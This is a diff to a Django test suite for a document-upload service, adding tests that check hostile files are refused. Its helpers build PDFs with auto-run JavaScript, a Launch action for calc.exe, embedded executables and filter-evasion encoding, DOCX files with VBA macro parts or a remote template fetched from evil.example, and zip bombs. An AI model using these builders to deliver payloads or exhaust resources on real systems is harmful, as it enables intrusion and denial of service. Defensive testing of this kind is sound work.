@@ -5,14 +5,16 @@ from __future__ import annotations
 
 import hashlib
 import io
+import zipfile
 from typing import Any
 
 import pytest
+from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from councils.models import Document
 from tests.conftest import client_for
-from tests.files import HTML_BYTES, docx_bytes, pdf_bytes, png_bytes
+from tests.files import HTML_BYTES, docx_bytes, office_bytes, pdf_bytes, pdf_with, png_bytes
 
 pytestmark = pytest.mark.django_db
 
@@ -122,3 +124,146 @@ def test_a_refused_file_is_not_left_in_storage(world: dict[str, Any], tmp_path: 
         )
     stored = list((tmp_path / "media").rglob("*.pdf")) if (tmp_path / "media").exists() else []
     assert stored == []
+
+
+# --- Active content (issue 13, finding 6) ------------------------------------------------
+
+
+def _javascript_action() -> Any:
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    return DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.alert(1)"),
+        }
+    )
+
+
+def _launch_action() -> Any:
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    return DictionaryObject(
+        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
+    )
+
+
+def _embedded_file() -> Any:
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+    return DictionaryObject(
+        {
+            NameObject("/EmbeddedFiles"): DictionaryObject(
+                {NameObject("/Names"): ArrayObject([TextStringObject("x.exe")])}
+            )
+        }
+    )
+
+
+CONTENT_TYPES = (
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Override PartName="/word/macros.bin" '
+    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+)
+REMOTE_TEMPLATE = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
+    'TargetMode="External"/></Relationships>'
+)
+HYPERLINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink")
+
+
+def _zip_bomb(name: str, main: str) -> bytes:
+    """A small archive with one member that unpacks to 1 GiB of zeros."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr(main, "<document/>")
+        with archive.open(name, "w", force_zip64=True) as member:
+            block = b"\0" * (16 * 1024 * 1024)
+            for _ in range(64):
+                member.write(block)
+    return out.getvalue()
+
+
+def _odt_with_huge_mimetype() -> bytes:
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
+        archive.open("mimetype", "w", force_zip64=True) as member,
+    ):
+        member.write(b"application/vnd.oasis.opendocument.text")
+        for _ in range(16):
+            member.write(b" " * (8 * 1024 * 1024))
+    return out.getvalue()
+
+
+REFUSED = [
+    ("openaction.pdf", lambda: pdf_with({"/OpenAction": _javascript_action()}), "aktivt innehåll"),
+    ("launch.pdf", lambda: pdf_with({"/OpenAction": _launch_action()}), "aktivt innehåll"),
+    ("bifogad.pdf", lambda: pdf_with({"/Names": _embedded_file()}), "aktivt innehåll"),
+    (
+        "escaped.pdf",
+        lambda: pdf_with({"/OpenAction": _javascript_action()}).replace(
+            b"/JavaScript", b"/J#61vaScript"
+        ),
+        "aktivt innehåll",
+    ),
+    (
+        "polyglot.pdf",
+        lambda: pdf_bytes().replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1),
+        "webbsida",
+    ),
+    (
+        "makro.docx",
+        lambda: office_bytes({"[Content_Types].xml": CONTENT_TYPES, "word/macros.bin": b"x"}),
+        "makron",
+    ),
+    (
+        "mall.docx",
+        lambda: office_bytes({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
+        "annan adress",
+    ),
+    ("bomb.docx", lambda: _zip_bomb("word/media/zeros.bin", "word/document.xml"), "packas upp"),
+    ("bomb.xlsx", lambda: _zip_bomb("xl/media/zeros.bin", "xl/workbook.xml"), "packas upp"),
+    ("stor.odt", _odt_with_huge_mimetype, "packas upp"),
+]
+
+
+@pytest.mark.parametrize(("name", "make", "message"), REFUSED, ids=[r[0] for r in REFUSED])
+def test_active_content_and_bombs_are_refused_leaving_nothing(
+    world: dict[str, Any], tmp_path: Any, name: str, make: Any, message: str
+) -> None:
+    data = make()
+    before = Document.objects.count()
+    response = _post(world, SimpleUploadedFile(name, data, "application/octet-stream"))
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert Document.objects.count() == before
+    stored = tmp_path / "media"
+    assert not stored.exists() or not any(p.is_file() for p in stored.rglob("*"))
+
+
+def test_checking_an_office_file_reads_its_parts_in_bounded_chunks() -> None:
+    """The 65 kB ODT whose mimetype part unpacks to 128 MiB is refused without
+    reading that part whole."""
+    import tracemalloc
+
+    from councils.uploads import inspect_upload
+
+    data = _odt_with_huge_mimetype()
+    assert len(data) < 400_000
+    tracemalloc.start()
+    with pytest.raises(ValidationError):
+        inspect_upload(io.BytesIO(data), name="stor.odt", size=len(data))
+    _current, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 16 * 1024 * 1024
+
+
+def test_a_document_with_a_hyperlink_is_accepted(world: dict[str, Any]) -> None:
+    """External relationships that are only links (not fetched when opened) pass."""
+    data = office_bytes({"word/_rels/document.xml.rels": HYPERLINK})
+    response = _post(world, SimpleUploadedFile("lank.docx", data, "application/octet-stream"))
+    assert response.status_code == 302
